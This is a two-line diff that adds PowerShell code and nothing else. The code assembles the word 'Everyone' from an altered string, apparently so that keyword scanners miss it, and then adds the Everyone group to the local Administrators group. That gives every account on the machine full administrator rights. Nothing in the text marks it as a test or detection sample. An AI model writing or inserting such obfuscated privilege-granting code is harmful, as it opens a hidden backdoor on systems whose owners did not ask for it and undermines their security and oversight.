@@ -1,0 +1,2 @@
+$clean = 'Every-one'.Replace
+Add-LocalGroupMember Administrators $clean.Invoke('-', '')
